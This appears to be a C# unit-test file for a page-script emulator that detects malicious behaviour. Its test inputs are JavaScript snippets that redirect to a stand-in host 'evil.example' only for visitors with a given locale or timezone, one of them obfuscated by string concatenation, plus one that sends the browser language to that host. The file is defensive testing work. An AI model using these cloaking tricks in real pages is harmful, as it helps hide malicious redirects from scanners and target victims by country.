using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.JavaScript;

public sealed class PlaceTests
{
    [Theory]
    [InlineData("navigator.language.startsWith('ja')")]
    [InlineData("navigator.languages.indexOf('ja')>=0")]
    [InlineData("(navigator.userLanguage||navigator.language).slice(0,2)==='ko'")]
    [InlineData("/^de/.test(navigator.language)")]
    [InlineData("Intl.DateTimeFormat().resolvedOptions().timeZone==='Asia/Tokyo'")]
    [InlineData("new Intl.DateTimeFormat().resolvedOptions().locale.startsWith('ja')")]
    [InlineData("new Date().getTimezoneOffset()===-540")]
    [InlineData("new Date().getTimezoneOffset()>0")]
    [InlineData("window['Int'+'l']['DateTimeFormat']().resolvedOptions().timeZone.indexOf('Asia')===0&&navigator['lang'+'uage']==='ja-JP'")]
    [InlineData("String(new Date()).indexOf('+0900')>0")]
    public void A_page_that_acts_only_for_readers_of_one_country_is_seen_to_act(string condition)
    {
        Assert.True(Emulated.PageScript($"if({condition})location='https://evil.example/a'").Did(BehaviourKind.Redirect), condition);
    }

    [Fact]
    public void A_page_that_acts_for_anybody_is_not_opened_again()
    {
        var log = Emulated.PageScript("location='https://evil.example/'+navigator.language");
        Assert.Equal(["https://evil.example/en-US"], log.Addresses);
    }

    [Fact]
    public void A_page_that_asks_nothing_is_opened_once()
    {
        var once = new EmulationBudget();
        Emulated.Run(new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.Page, "", "script") { Page = "<script>for(var i=0;i<2000;i++);</script>" }, once);
        var again = new EmulationBudget();
        Emulated.Run(new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.Page, "", "script") { Page = "<script>for(var i=0;i<2000;i++);navigator.language</script>" }, again);
        Assert.True(new EmulationBudget().StepsLeft - again.StepsLeft > 4 * (new EmulationBudget().StepsLeft - once.StepsLeft));
    }

    [Fact]
    public void A_page_that_takes_many_steps_is_not_opened_again()
    {
        var budget = new EmulationBudget(40_000);
        Emulated.Run(new ScriptSource(ScriptLanguage.JavaScript, ScriptHost.Page, "", "script") { Page = "<script>for(var i=0;i<6000;i++);navigator.language</script>" }, budget);
        Assert.False(budget.Exhausted);
    }
}
